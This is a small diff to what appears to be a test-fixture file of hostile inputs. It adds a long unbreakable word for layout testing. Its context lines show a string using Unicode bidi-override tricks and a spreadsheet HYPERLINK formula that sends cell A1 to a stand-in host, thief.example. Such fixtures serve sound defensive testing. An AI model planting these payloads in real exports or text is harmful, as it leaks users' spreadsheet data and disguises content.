@@ -10,6 +10,9 @@ export const HOSTILE_MARKUP = [
   '\u202Eevil\u202C \u0301\u0301\u0301 \u{1F469}\u200D\u{1F373} ]]>',
 ]
 
+/** A word that no line can hold, and that gives no place to break it. */
+export const ENDLESS_WORDS = ['W'.repeat(200)]
+
 /** What a spreadsheet would run, also behind what it skips. */
 export const HOSTILE_FORMULAS = [
   '=HYPERLINK("https://thief.example/?"&A1,"Priya")',
